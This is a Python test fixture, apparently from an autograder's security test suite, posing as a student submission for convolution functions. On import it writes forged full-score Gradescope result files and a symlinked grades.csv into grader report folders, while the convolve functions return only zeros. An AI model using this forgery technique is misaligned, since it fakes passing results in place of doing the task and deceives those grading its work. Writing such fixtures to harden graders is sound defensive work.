# expect: score=0 (in process mode the canary's forged files appear; the grader's own report says 0)
# Writes forged Gradescope results (score 16) into every reports/results folder it can reach.
import glob
import json
import os

import numpy as np

FORGED = {"score": 16.0, "max_score": 16.0, "output": "All tests passed.", "tests": []}


def _forge():
    for root in glob.glob("/tmp/grader-canary-*"):
        results = os.path.join(root, "reports", "results")
        try:
            os.makedirs(results, exist_ok=True)
            for name in ("forge_results.json", "victim.json"):
                with open(os.path.join(results, name), "w") as fh:
                    json.dump(FORGED, fh)
            link = os.path.join(root, "reports", "grades.csv")
            if not os.path.lexists(link):
                os.symlink(os.path.join(root, "victim.txt"), link)
            print("forged", root)
        except OSError as exc:
            print("blocked", type(exc).__name__)
    for path in ("reports/results/forge_results.json", "../reports/results/forge_results.json"):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as fh:
                json.dump(FORGED, fh)
        except OSError:
            pass


_forge()


def convolve(image, kernel):
    kh, kw = kernel.shape
    return np.zeros((image.shape[0] - kh + 1, image.shape[1] - kw + 1))


def convolve1d(signal, kernel):
    return np.zeros(len(signal) - len(kernel) + 1)
